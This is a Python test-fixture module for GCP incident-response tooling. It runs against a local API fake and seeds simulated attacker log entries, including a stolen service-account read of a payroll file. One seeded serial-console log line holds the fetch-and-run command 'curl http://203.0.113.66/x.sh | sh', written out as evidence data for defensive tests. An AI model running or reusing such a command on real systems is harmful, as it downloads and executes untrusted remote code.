"""GCP responder tests run against the local fake of the Compute and Cloud Storage REST APIs
(HTTP on 127.0.0.1, one per worker), reset per test with what the stack prewires (a locked
evidence bucket, the quarantine firewall rules of the network) and a victim instance."""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest

from prewire.core.vocabulary import Cloud
from prewire.emulator.gcp import FakeGcp
from responders.case import Options
from responders.gcp.case import GcpCase, open_case
from responders.gcp.session import GcpClients
from responders.playbooks import PLAYBOOKS
from responders.registry import ACTIONS, load_cloud
from responders.runner import run_action, run_playbook
from responders.runtime import Outcome

ZONE = "europe-west1-b"
NETWORK = "projects/prewire-fake/global/networks/app-vpc"
EVIDENCE = "prewire-evidence-fake"
VICTIM = f"projects/prewire-fake/zones/{ZONE}/instances/web-1"
ACCOUNT = "web@prewire-fake.iam.gserviceaccount.com"


@dataclass
class Project:
    fake: FakeGcp
    clients: GcpClients

    def instance(self) -> dict[str, Any]:
        return self.fake.compute.instances[(ZONE, "web-1")]

    def posts(self) -> list[str]:
        """Compute writes (evidence uploads excluded)."""
        return [p for m, p in self.fake.requests if m == "POST" and p.startswith("/compute/")]


@pytest.fixture(scope="session")
def gcp_fake() -> Iterator[FakeGcp]:
    with FakeGcp() as fake:
        yield fake


def quarantine_rules(fake: FakeGcp, network: str) -> None:
    for direction, ranges in (("INGRESS", "sourceRanges"), ("EGRESS", "destinationRanges")):
        fake.compute.add_firewall(
            f"prewire-quarantine-{direction.lower()}-{network.rsplit('/', 1)[-1]}",
            {
                "network": f"https://compute.googleapis.com/compute/v1/{network}",
                "direction": direction,
                "priority": 0,
                "denied": [{"IPProtocol": "all"}],
                "targetTags": ["prewire-quarantine"],
                ranges: ["0.0.0.0/0"],
            },
        )


@pytest.fixture
def project(gcp_fake: FakeGcp) -> Project:
    gcp_fake.reset()
    gcp_fake.storage.add_bucket(EVIDENCE, {"prewire-role": "evidence-store"}, 365, locked=True)
    quarantine_rules(gcp_fake, NETWORK)
    gcp_fake.iam.add_account(ACCOUNT, user_keys=2)
    gcp_fake.compute.add_instance(
        ZONE,
        "web-1",
        NETWORK,
        tags=["http-server"],
        disk_names=("web-1-boot", "web-1-data"),
        service_account=ACCOUNT,
    )
    seed_logs(gcp_fake, gcp_fake.compute.instances[(ZONE, "web-1")]["id"])
    clients = GcpClients("prewire-fake", gcp_fake.credentials(), gcp_fake.url, poll_seconds=0.01)
    return Project(gcp_fake, clients)


def seed_logs(fake: FakeGcp, instance_id: str) -> None:
    """What the attacker left in Cloud Logging, and entries about others (not collected)."""
    now = datetime.now(UTC)
    base = "projects/prewire-fake/logs"

    def at(minutes: int) -> str:
        return (now - timedelta(minutes=minutes)).strftime("%Y-%m-%dT%H:%M:%S.%fZ")

    fake.logging.entries += [
        {  # the instance's serial console: the attacker's shell
            "logName": f"{base}/serialconsole.googleapis.com%2Fserial_port_1_output",
            "timestamp": at(40),
            "resource": {"type": "gce_instance", "labels": {"instance_id": instance_id}},
            "textPayload": "curl http://203.0.113.66/x.sh | sh",
        },
        {  # the audit log naming the instance
            "logName": f"{base}/cloudaudit.googleapis.com%2Factivity",
            "timestamp": at(35),
            "resource": {"type": "gce_instance", "labels": {"instance_id": instance_id}},
            "protoPayload": {
                "methodName": "v1.compute.instances.setMetadata",
                "resourceName": f"projects/prewire-fake/zones/{ZONE}/instances/web-1",
                "authenticationInfo": {"principalEmail": "attacker@example.com"},
            },
        },
        {  # what the stolen service account token did elsewhere
            "logName": f"{base}/cloudaudit.googleapis.com%2Fdata_access",
            "timestamp": at(30),
            "resource": {"type": "gcs_bucket", "labels": {"bucket_name": "payroll"}},
            "protoPayload": {
                "methodName": "storage.objects.get",
                "resourceName": "projects/_/buckets/payroll/objects/2026.csv",
                "authenticationInfo": {"principalEmail": ACCOUNT},
            },
        },
        {  # another instance: not collected
            "logName": f"{base}/cloudaudit.googleapis.com%2Factivity",
            "timestamp": at(20),
            "resource": {"type": "gce_instance", "labels": {"instance_id": "1"}},
            "protoPayload": {"resourceName": f"projects/prewire-fake/zones/{ZONE}/instances/db-1"},
        },
        {  # the victim, but before the window: not collected
            "logName": f"{base}/cloudaudit.googleapis.com%2Factivity",
            "timestamp": at(60 * 24 * 30),
            "resource": {"type": "gce_instance", "labels": {"instance_id": instance_id}},
        },
    ]


def open_test_case(project: Project, case: str = "case-1", **options: Any) -> GcpCase:
    dry_run = bool(options.pop("dry_run", False))
    return open_case(project.clients, case, options=Options(**options), dry_run=dry_run)


def act(case: GcpCase, name: str, *targets: str) -> list[Outcome]:
    load_cloud(Cloud.GCP)
    return run_action(case, ACTIONS.get((Cloud.GCP, name)), list(targets))


def play(case: GcpCase, name: str, *targets: str) -> list[Outcome]:
    load_cloud(Cloud.GCP)
    return run_playbook(
        case, PLAYBOOKS.get((Cloud.GCP, name)), list(targets), lambda a: ACTIONS.get((Cloud.GCP, a))
    )
